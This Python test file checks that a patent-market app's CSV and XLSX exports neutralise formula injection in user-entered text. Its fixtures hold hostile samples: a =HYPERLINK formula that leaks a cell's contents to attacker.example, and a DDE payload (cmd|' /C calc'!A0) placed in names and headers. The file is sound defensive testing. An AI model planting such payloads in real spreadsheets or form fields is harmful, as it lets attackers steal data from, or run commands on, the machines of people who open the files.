"""Issue 13 #2: every CSV and XLSX the app hands out writes user text as text, never as a formula."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from market.core import spreadsheets
from market.core.extensions import db
from tests import factories as f
from tests.statistics import ledger

HYPERLINK = '=HYPERLINK("https://attacker.example/?"&B2,"点击查看")'
DANGEROUS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_would_start_a_formula_is_neutralised(text):
    assert spreadsheets.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["一种隔膜", "ZL 2020 1 0123456.2", "'=already quoted", ""])
def test_ordinary_text_is_left_alone(text):
    assert spreadsheets.neutralise(text) == text


def test_the_csv_writer_neutralises_every_row_header_included():
    text = spreadsheets.csv_text([[HYPERLINK, "名称"], ["=1+1", 12, None, "@x"]])
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows == [["'" + HYPERLINK, "名称"], ["'=1+1", "12", "", "'@x"]]


def test_the_xlsx_writer_writes_strings_as_strings():
    wb = spreadsheets.new_workbook()
    spreadsheets.add_sheet(wb, "表", [[HYPERLINK, "金额"], ["=A1*2", 3, "\x01控制字符"]])
    out = io.BytesIO()
    spreadsheets.save_workbook(wb, out)
    cells = [c for row in load_workbook(io.BytesIO(out.getvalue()))["表"].iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert [c.value for c in cells if c.value is not None] == ["'" + HYPERLINK, "金额", "'=A1*2", 3, "控制字符"]


@pytest.fixture
def poisoned(session):
    """A deal whose user-typed names and title are formulas, and the bureau that exports it."""
    bureau = f.organisation("公式测试知识产权局", "BUREAU")
    seller = f.organisation(HYPERLINK, "UNIVERSITY", district="宝山区")
    buyer = f.organisation("@SUM(1+1)*cmd|' /C calc'!A0", "PRIVATE", district="宝山区")
    patent = f.patent(seller, title="=1+2+HYPERLINK(\"https://attacker.example\")")
    ledger.deal("TRANSFER", patent, seller, buyer, point=f.point(name="+网点"), on=date(2024, 3, 5),
                price_fen=100_00)
    user = f.user(bureau)
    db.session.commit()
    return user


def test_the_statistics_csv_export_holds_no_formula(client, poisoned):
    f.login(client, poisoned)
    response = client.get("/statistics/export?period=2024&format=csv", buffered=True)
    assert response.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(response.get_data().decode().lstrip("\ufeff"))) for c in row]
    assert "'" + HYPERLINK in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c.startswith("-") and not re.fullmatch(r"-[\d.]+", c)]


def test_the_statistics_xlsx_export_holds_no_formula(client, poisoned):
    f.login(client, poisoned)
    response = client.get("/statistics/export?period=2024&format=xlsx")
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.get_data()))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + HYPERLINK in {c.value for c in cells}


def test_the_rejected_rows_report_neutralises_headers_and_cells():
    from listings.importing.service import rejected_rows_csv

    report = rejected_rows_csv(["=cmd|' /C calc'!A0", "名称"],
                               [{"row": 2, "reasons_zh": ["申请号无效"], "reasons_en": ["bad"],
                                 "cells": {"=cmd|' /C calc'!A0": "@SUM(1)", "名称": "-1+1"}}])
    rows = list(csv.reader(io.StringIO(report.lstrip("\ufeff"))))
    assert rows[0] == ["行号", "错误原因", "'=cmd|' /C calc'!A0", "名称"]
    assert rows[1] == ["2", "申请号无效", "'@SUM(1)", "'-1+1"]


def test_no_module_but_the_one_writer_makes_csv_or_xlsx_files():
    """A new export written with csv.writer or openpyxl directly would skip the neutralising."""
    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"csv\.(writer|DictWriter)\(|Workbook\(|WriteOnlyCell\(")
    found = [str(path.relative_to(root)) for package in ("market", "listings", "matching")
             for path in (root / package).rglob("*.py")
             if writers.search(path.read_text(encoding="utf-8")) and path.name != "spreadsheets.py"]
    assert found == []
